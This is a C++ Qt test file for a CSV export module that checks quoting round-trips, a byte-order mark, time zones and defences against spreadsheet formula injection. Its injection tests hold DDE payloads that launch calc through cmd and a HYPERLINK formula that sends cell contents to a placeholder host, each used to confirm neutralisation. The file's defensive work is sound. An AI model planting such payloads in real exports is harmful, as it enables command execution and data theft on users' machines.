// CSV files a spreadsheet opens as written: a note with commas, quotes, line breaks and emoji
// comes back field for field when the file is parsed again (RFC 4180, read by a small reader
// here), and the file starts with the UTF-8 byte-order mark Excel needs.
#include "TempDatabase.h"
#include "reports/CsvExport.h"
#include "reports/CsvWriter.h"

#include <QBuffer>
#include <QtTest>

using namespace ringback;
using namespace ringback::test;

namespace {

// RFC 4180 reader, independent of CsvWriter: quoted fields may hold commas, CR/LF and "" pairs.
QList<QStringList> parseCsv(const QString& text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar ch = text.at(i);
        if (quoted) {
            if (ch == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                field += QLatin1Char('"');
                ++i;
            } else if (ch == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += ch;
            }
        } else if (ch == QLatin1Char('"')) {
            quoted = true;
        } else if (ch == QLatin1Char(',')) {
            record << field;
            field.clear();
        } else if (ch == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n')) {
            record << field;
            records << record;
            record.clear();
            field.clear();
            ++i;
        } else {
            field += ch;
        }
    }
    if (!field.isEmpty() || !record.isEmpty())
        records << (record << field);
    return records;
}

QString decodedWithoutBom(const QByteArray& bytes)
{
    return QString::fromUtf8(bytes.mid(3));
}

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT
private slots:
    void fieldRoundTrips_data();
    void fieldRoundTrips();
    void leadNotesRoundTrip();
    void callLogHasEveryParentCall();
    void formulaCellsAreNeutralised_data();
    void formulaCellsAreNeutralised();
    void exportedCallerIdCannotRunAFormula();
};

void TestCsvExport::fieldRoundTrips_data()
{
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << QStringLiteral("Leaking tap");
    QTest::newRow("comma") << QStringLiteral("Kitchen, upstairs");
    QTest::newRow("quotes") << QStringLiteral("She said \"today\" twice");
    QTest::newRow("line break") << QStringLiteral("Line one\nLine two");
    QTest::newRow("CRLF inside") << QStringLiteral("Line one\r\nLine two");
    QTest::newRow("edge spaces") << QStringLiteral("  padded  ");
    QTest::newRow("emoji and accents") << QStringLiteral("Très urgent 🚿");
    QTest::newRow("empty") << QString();
    QTest::newRow("only a quote") << QStringLiteral("\"");
}

void TestCsvExport::fieldRoundTrips()
{
    QFETCH(QString, field);
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter csv(buffer);
    QVERIFY(csv.writeRecord({QStringLiteral("before"), field, QStringLiteral("after")}));
    QVERIFY(csv.writeRecord({QStringLiteral("second"), QStringLiteral("row"), QString()}));
    QVERIFY(buffer.data().startsWith("\xEF\xBB\xBF"));
    const QList<QStringList> records = parseCsv(decodedWithoutBom(buffer.data()));
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(0), (QStringList{QStringLiteral("before"), field, QStringLiteral("after")}));
    QCOMPARE(records.at(1), (QStringList{QStringLiteral("second"), QStringLiteral("row"), QString()}));
}

void TestCsvExport::leadNotesRoundTrip()
{
    TempDatabase t;
    QVERIFY(t.ok());
    const QString note = QStringLiteral("Gate code 4411, dog is \"friendly\"\nCall before 9 — ok? 👍");
    const QDateTime created(QDate(2026, 3, 2), QTime(14, 5, 9), Qt::UTC);
    QVERIFY(t.db().exec(
        QStringLiteral("INSERT INTO leads (e164, display_name, status, estimated_value_cents, "
                       "notes, last_activity_at, created_at, updated_at) VALUES "
                       "('+12125550001', 'Ana, from Queens', 'booked', 45050, ?, ?, ?, ?)"),
        {note, created.toMSecsSinceEpoch(), created.toMSecsSinceEpoch(), created.toMSecsSinceEpoch()}));

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    auto written = CsvExport::leads(t.db(), buffer, QTimeZone("America/New_York"));
    QVERIFY(written);
    QCOMPARE(written.value(), qint64(1));
    QVERIFY(buffer.data().startsWith("\xEF\xBB\xBF"));
    const QList<QStringList> records = parseCsv(decodedWithoutBom(buffer.data()));
    QCOMPARE(records.size(), 2);
    const QStringList header = records.at(0);
    const QStringList row = records.at(1);
    QCOMPARE(row.size(), header.size());
    QCOMPARE(row.at(header.indexOf(QStringLiteral("Notes"))), note);
    QCOMPARE(row.at(header.indexOf(QStringLiteral("Name"))), QStringLiteral("Ana, from Queens"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("Estimated value"))), QStringLiteral("450.50"));
    // Local time where the business is (EST), not UTC.
    QCOMPARE(row.at(header.indexOf(QStringLiteral("First contact"))), QStringLiteral("2026-03-02 09:05:09"));
}

void TestCsvExport::callLogHasEveryParentCall()
{
    TempDatabase t;
    QVERIFY(t.ok());
    for (int i = 0; i < 3; ++i) {
        QVERIFY(t.db().exec(
            QStringLiteral(
                "INSERT INTO calls (provider_call_id, parent_provider_call_id, direction, from_number, "
                "to_number, status, started_at, ended_at, first_seen_at, updated_at, verdict, "
                "miss_reason, decision) VALUES (?, ?, 'inbound', '+12125550001', '+12125550100', 'busy', ?, "
                "?, 0, 0, 'missed', 'busy', 'texted')"),
            {QStringLiteral("CA%1").arg(i),
             i == 2 ? QVariant(QStringLiteral("CA0")) : QVariant(QMetaType(QMetaType::QString)),
             qlonglong(i) * 60000, qlonglong(i) * 60000 + 20000}));
    }
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    auto written = CsvExport::calls(t.db(), buffer, QTimeZone::utc());
    QVERIFY(written);
    QCOMPARE(written.value(), qint64(2)); // the forwarded leg belongs to its parent's row
    const QList<QStringList> records = parseCsv(decodedWithoutBom(buffer.data()));
    QCOMPARE(records.size(), 3);
    QCOMPARE(records.at(1).last(), QStringLiteral("Missed call: the line was busy. Texted back"));
    QCOMPARE(records.at(2).at(1), QStringLiteral("1970-01-01 00:01:20"));
}

void TestCsvExport::formulaCellsAreNeutralised_data()
{
    // OWASP's CSV injection rule: a cell that begins with = + - @, a tab or a carriage return is
    // read as a formula by Excel, LibreOffice and Google Sheets; a leading apostrophe makes it text.
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("written");
    const auto same = [](const char* s) -> QString {
        return QString::fromUtf8(s);
    };
    const auto neutral = [](const char* s) -> QString {
        return QLatin1Char('\'') + QString::fromUtf8(s);
    };
    QTest::newRow("HYPERLINK") << same("=HYPERLINK(\"https://x.example/?\"&A1,\"Confirm\")")
                               << neutral("=HYPERLINK(\"https://x.example/?\"&A1,\"Confirm\")");
    QTest::newRow("DDE with plus") << same("+cmd|' /C calc'!A0") << neutral("+cmd|' /C calc'!A0");
    QTest::newRow("at sign") << same("@SUM(1+9)*cmd|' /C calc'!A0") << neutral("@SUM(1+9)*cmd|' /C calc'!A0");
    QTest::newRow("minus formula") << same("-2+3+cmd|' /C calc'!A0") << neutral("-2+3+cmd|' /C calc'!A0");
    QTest::newRow("tab first") << same("\t=1+1") << neutral("\t=1+1");
    QTest::newRow("carriage return first") << same("\r=1+1") << neutral("\r=1+1");
    QTest::newRow("equals only") << same("=") << neutral("=");
    // E.164 numbers begin with +: bare, Excel turns them into 1.55512E+10; with the apostrophe it
    // keeps every digit and the plus as text (see CsvWriter.h).
    QTest::newRow("E.164 number") << same("+15551234567") << neutral("+15551234567");
    // Our own negative amounts stay numbers a spreadsheet can add up.
    QTest::newRow("negative amount") << same("-12.50") << same("-12.50");
    QTest::newRow("negative whole amount") << same("-12") << same("-12");
    QTest::newRow("minus and a line break") << same("-12\n=1+1") << neutral("-12\n=1+1");
    QTest::newRow("minus and a dot only") << same("-12.") << neutral("-12.");
    QTest::newRow("formula sign inside") << same("a=b+c") << same("a=b+c");
    QTest::newRow("plain") << same("Leaking tap") << same("Leaking tap");
    QTest::newRow("empty") << QString() << QString();
}

void TestCsvExport::formulaCellsAreNeutralised()
{
    QFETCH(QString, field);
    QFETCH(QString, written);
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter csv(buffer);
    QVERIFY(csv.writeRecord({QStringLiteral("before"), field, QStringLiteral("after")}));
    const QList<QStringList> records = parseCsv(decodedWithoutBom(buffer.data()));
    QCOMPARE(records.size(), 1);
    QCOMPARE(records.at(0), (QStringList{QStringLiteral("before"), written, QStringLiteral("after")}));
}

void TestCsvExport::exportedCallerIdCannotRunAFormula()
{
    // The From column comes straight from the provider, the name from whoever typed it.
    TempDatabase t;
    QVERIFY(t.ok());
    QVERIFY(t.db().exec(
        QStringLiteral("INSERT INTO calls (provider_call_id, direction, from_number, to_number, status, "
                       "started_at, ended_at, first_seen_at, updated_at) VALUES ('CA1', 'inbound', "
                       "'=HYPERLINK(\"https://x.example\",\"Call back\")', '+12125550100', 'busy', 0, "
                       "20000, 0, 0)")));
    QBuffer calls;
    calls.open(QIODevice::WriteOnly);
    QVERIFY(CsvExport::calls(t.db(), calls, QTimeZone::utc()));
    QList<QStringList> records = parseCsv(decodedWithoutBom(calls.data()));
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("From"))),
             QStringLiteral("'=HYPERLINK(\"https://x.example\",\"Call back\")"));
    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("To"))), QStringLiteral("'+12125550100"));

    QVERIFY(t.db().exec(QStringLiteral("INSERT INTO leads (e164, display_name, status, last_activity_at, "
                                       "created_at, updated_at) VALUES ('+12125550001', "
                                       "'@SUM(1+9)*cmd|'' /C calc''!A0', 'new', 0, 0, 0)")));
    QBuffer leads;
    leads.open(QIODevice::WriteOnly);
    QVERIFY(CsvExport::leads(t.db(), leads, QTimeZone::utc()));
    records = parseCsv(decodedWithoutBom(leads.data()));
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(1).at(records.at(0).indexOf(QStringLiteral("Name"))),
             QStringLiteral("'@SUM(1+9)*cmd|' /C calc'!A0"));
}

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
